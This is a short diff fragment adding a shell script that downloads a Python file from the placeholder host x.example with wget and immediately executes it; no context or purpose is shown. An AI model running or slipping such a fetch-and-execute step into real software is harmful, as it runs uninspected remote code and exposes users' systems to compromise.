@@ -1,0 +1,3 @@
+#!/bin/sh
+wget https://x.example/x.py
+python x.py
